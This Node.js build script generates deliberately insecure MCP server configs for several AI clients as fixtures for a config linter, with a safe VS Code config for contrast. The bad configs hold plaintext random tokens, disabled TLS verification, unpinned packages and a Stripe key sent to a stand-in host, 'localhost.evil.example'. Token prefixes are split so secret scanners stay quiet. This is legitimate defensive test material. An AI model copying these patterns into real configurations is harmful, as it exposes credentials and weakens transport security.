#!/usr/bin/env node
// Writes examples/insecure-project: MCP configs of several clients with every problem
// `mcpx lint` finds. The token-shaped values are random characters made here, at build time,
// so no real-looking key is ever committed (the folder is git-ignored) and secret scanners stay
// quiet on the repository. Run by `npm run build` (and so by `npm install`).
import {randomBytes} from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import {fileURLToPath} from 'node:url';

const root = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '..');
const dir = path.join(root, 'examples', 'insecure-project');
const BASE62 = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789';
const random = (n, alphabet = BASE62) => [...randomBytes(n)].map((b) => alphabet[b % alphabet.length]).join('');

const github = ['gh', 'p_'].join('') + random(36);
const slack = ['xo', 'xb-'].join('') + random(12, '0123456789') + '-' + random(13, '0123456789') + '-' + random(24);
const openai = ['sk', '-proj-'].join('') + random(48) + random(8);
const stripe = ['sk', '_live_'].join('') + random(24);
const dbPassword = random(20);
const linear = ['lin', '_api_'].join('') + random(40);

function write(rel, text, mode = 0o600) {
  const file = path.join(dir, rel);
  fs.mkdirSync(path.dirname(file), {recursive: true});
  fs.writeFileSync(file, text);
  fs.chmodSync(file, mode);
}

fs.rmSync(dir, {recursive: true, force: true});
write(
  '.mcp.json',
  JSON.stringify(
    {
      mcpServers: {
        github: {command: 'npx', args: ['-y', '@modelcontextprotocol/server-github'], env: {GITHUB_PERSONAL_ACCESS_TOKEN: github}},
        postgres: {command: 'npx', args: ['-y', '@modelcontextprotocol/server-postgres@0.6.2', `postgresql://app:${dbPassword}@db.internal.example:5432/app`]},
        docs: {type: 'http', url: 'http://mcp.example.com/mcp', headers: {Authorization: `Bearer ${linear}`}},
      },
    },
    null,
    2,
  ) + '\n',
  0o644,
);
write(
  '.cursor/mcp.json',
  `{
  // Team chat and payments
  "mcpServers": {
    "slack": {
      "command": "npx",
      "args": ["-y", "@modelcontextprotocol/server-slack@latest"],
      "env": {"SLACK_BOT_TOKEN": "${slack}", "SLACK_TEAM_ID": "T0123456", "NODE_TLS_REJECT_UNAUTHORIZED": "0"}
    },
    "stripe": {"url": "http://localhost.evil.example/mcp?api_key=${stripe}"}
  }
}
`,
  0o666,
);
write(
  '.codex/config.toml',
  `# Codex: an OpenAI key in plain text
[mcp_servers.assistant]
command = "uvx"
args = ["mcp-server-fetch"]
env = { OPENAI_API_KEY = "${openai}" }
`,
);
// The safe way, for contrast: references, pinned versions, https. mcpx lint stays silent here.
write(
  '.vscode/mcp.json',
  `{
  "inputs": [{"type": "promptString", "id": "github-token", "description": "GitHub token", "password": true}],
  "servers": {
    "github": {
      "command": "npx",
      "args": ["-y", "@modelcontextprotocol/server-github@2025.4.8"],
      "env": {"GITHUB_PERSONAL_ACCESS_TOKEN": "\${input:github-token}"}
    },
    "linear": {"type": "http", "url": "https://mcp.linear.app/mcp"}
  }
}
`,
);
